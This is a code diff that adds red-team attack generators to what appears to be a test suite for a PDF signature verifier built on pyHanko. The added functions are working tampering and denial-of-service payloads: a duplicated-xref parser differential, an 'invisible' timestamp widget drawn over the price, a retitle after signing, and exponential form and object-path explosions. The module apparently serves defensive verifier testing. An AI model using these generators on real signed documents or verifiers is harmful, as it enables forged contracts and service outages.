@@ -10,6 +10,8 @@ platform's upload and filing endpoints and through the offline verifier.
 
 from __future__ import annotations
 
+import itertools
+import zlib
 from collections.abc import Callable
 from dataclasses import dataclass
 from io import BytesIO
@@ -18,6 +20,7 @@ from typing import Any
 from pyhanko.pdf_utils import generic
 from pyhanko.pdf_utils.generic import pdf_name
 from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
+from pyhanko.pdf_utils.reader import PdfFileReader
 from pyhanko.sign import fields, signers
 from pyhanko.stamp import TextStampStyle
 
@@ -297,3 +300,160 @@ MODIFICATIONS = (
     Attack("restyle-earlier-signature", restyle_signature, "签名域“seller”的外观被改动"),
     Attack("signature-wrapping", wrapped_signature, "第 1 页内容被改动"),
 )
+
+
+# -- found by the red team (docs/verifier.md, "Attacks") ------------------------------------
+
+
+def duplicated_xref_entry(pdf: bytes) -> bytes:
+    """Parser differential: one xref section lists page 1's content stream twice, first at a
+    rewritten copy (what poppler and qpdf show), then at the original (what pyHanko reads,
+    to which the revision would be an identical restatement)."""
+    reader = PdfFileReader(BytesIO(pdf), strict=False)
+    page = reader.root["/Pages"]["/Kids"][0].get_object()
+    contents = page.raw_get("/Contents")
+    ref = contents if isinstance(contents, generic.IndirectObject) else contents[0]
+    data = ref.get_object().data + b"\n" + FAKE
+    original = next(
+        offset
+        for revision in range(reader.xrefs.total_revisions - 1, -1, -1)
+        for idnum, (generation, offset) in reader.xrefs.get_xref_data(
+            revision
+        ).standard_xrefs.items()
+        if (idnum, generation) == (ref.idnum, ref.generation)
+    )
+    trailer = reader.trailer_view
+    last = reader.xrefs.get_xref_container_info(reader.xrefs.total_revisions - 1)
+    body = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
+    copy_at = len(body)
+    packed = zlib.compress(data)
+    head = f"{ref.idnum} {ref.generation} obj\n<< /Filter /FlateDecode /Length {len(packed)} >>\n"
+    body += head.encode()
+    body += b"stream\n" + packed + b"\nendstream\nendobj\n"
+    xref_at = len(body)
+    entry = "{n} 1\n{at:010d} {g:05d} n \n"
+    body += b"xref\n" + entry.format(n=ref.idnum, at=copy_at, g=ref.generation).encode()
+    body += entry.format(n=ref.idnum, at=original, g=ref.generation).encode()
+    root, info = trailer.raw_get("/Root"), trailer.raw_get("/Info")
+    ids = trailer.raw_get("/ID")
+    body += (
+        f"trailer\n<< /Root {root.idnum} {root.generation} R /Info {info.idnum} "
+        f"{info.generation} R /ID [<{ids[0].original_bytes.hex()}> "
+        f"<{ids[1].original_bytes.hex()}>] /Size {int(trailer['/Size'])} "
+        f"/Prev {last.declared_startxref} >>\nstartxref\n{xref_at}\n%%EOF\n"
+    ).encode()
+    return bytes(body)
+
+
+def timestamp_field_over_the_price(
+    pdf: bytes, timestamper: Any, rect: str = "indirect", kids: bool = False
+) -> bytes:
+    """A "document time-stamp" whose widget pyHanko's visibility test reads as invisible
+    (a /Rect of indirect numbers, or of five numbers), with an appearance over the price."""
+    w = _writer(pdf)
+    page = _page(w)
+    box = OVER_THE_PRICE
+    appearance = _form_xobject(w, FAKE, (0, 0, box[2] - box[0], box[3] - box[1]))
+    if rect == "indirect":
+        corners = generic.ArrayObject([w.add_object(generic.NumberObject(v)) for v in box])
+    else:
+        corners = generic.ArrayObject([generic.NumberObject(v) for v in (*box, 0)])
+    widget = generic.DictionaryObject(
+        {
+            pdf_name("/Type"): pdf_name("/Annot"),
+            pdf_name("/Subtype"): pdf_name("/Widget"),
+            pdf_name("/F"): generic.NumberObject(4),
+            pdf_name("/Rect"): corners,
+            pdf_name("/P"): page,
+            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): appearance}),
+        }
+    )
+    field = generic.DictionaryObject(
+        {pdf_name("/FT"): pdf_name("/Sig"), pdf_name("/T"): generic.TextStringObject("ts-price")}
+    )
+    if kids:
+        widget_ref = w.add_object(widget)
+        field[pdf_name("/Kids")] = generic.ArrayObject([widget_ref])
+        field_ref = w.add_object(field)
+        widget[pdf_name("/Parent")] = field_ref
+    else:
+        field.update(widget)
+        field_ref = widget_ref = w.add_object(field)
+    form = w.root["/AcroForm"]
+    form["/Fields"].append(field_ref)
+    fields_raw = form.raw_get("/Fields")
+    if isinstance(fields_raw, generic.IndirectObject):
+        w.mark_update(fields_raw)
+    else:
+        w.update_container(form)
+    w.register_annotation(page, widget_ref)
+    out = signers.PdfTimeStamper(timestamper, field_name="ts-price").timestamp_pdf(
+        w, "sha256", bytes_reserved=8192
+    )
+    return bytes(out.getvalue())
+
+
+def retitle(pdf: bytes, title: str = "VOID 作废") -> bytes:
+    """Document information changed after signing (a viewer shows the title)."""
+    w = _writer(pdf)
+    raw = w.trailer.raw_get("/Info")
+    raw.get_object()[pdf_name("/Title")] = generic.TextStringObject(title)
+    w.mark_update(raw)
+    return _out(w)
+
+
+def form_fan_out(pdf: bytes, fan: int = 16, depth: int = 8) -> bytes:
+    """A form tree whose /Kids repeat one field ``fan`` times per level: fan**depth paths."""
+    w = _writer(pdf)
+    leaf = w.add_object(
+        generic.DictionaryObject(
+            {pdf_name("/FT"): pdf_name("/Sig"), pdf_name("/T"): generic.TextStringObject("x")}
+        )
+    )
+    node = leaf
+    for level in range(depth):
+        node = w.add_object(
+            generic.DictionaryObject(
+                {
+                    pdf_name("/T"): generic.TextStringObject(f"n{level}"),
+                    pdf_name("/Kids"): generic.ArrayObject([node] * fan),
+                }
+            )
+        )
+    form = w.root["/AcroForm"]
+    form["/Fields"].append(node)
+    fields_raw = form.raw_get("/Fields")
+    if isinstance(fields_raw, generic.IndirectObject):
+        w.mark_update(fields_raw)
+    else:
+        w.update_container(form)
+    return _out(w)
+
+
+def path_explosion(pdf: bytes, depth: int = 40) -> bytes:
+    """An object chain in which each array holds the next twice: 2**depth paths from the
+    trailer, which pyHanko's difference analysis would enumerate one by one."""
+    w = _writer(pdf)
+    refs = [w.add_object(generic.ArrayObject()) for _ in range(depth)]
+    for here, there in itertools.pairwise(refs):
+        here.get_object().extend([there, there])
+    w.root[pdf_name("/Chain")] = refs[0]
+    w.update_root()
+    return _out(w)
+
+
+def path_explosion_in_dss(pdf: bytes, depth: int = 40) -> bytes:
+    """The same chain hung from a certificate stream of the DSS, which may grow after a
+    signature: every later revision's comparison would walk it."""
+    from pyhanko.pdf_utils.generic import StreamObject
+
+    w = _writer(pdf)
+    refs = [w.add_object(generic.ArrayObject()) for _ in range(depth)]
+    for here, there in itertools.pairwise(refs):
+        here.get_object().extend([there, there])
+    cert = w.add_object(StreamObject({pdf_name("/X"): refs[0]}, stream_data=b"\x30\x00"))
+    w.root[pdf_name("/DSS")] = generic.DictionaryObject(
+        {pdf_name("/Certs"): generic.ArrayObject([cert])}
+    )
+    w.update_root()
+    return _out(w)
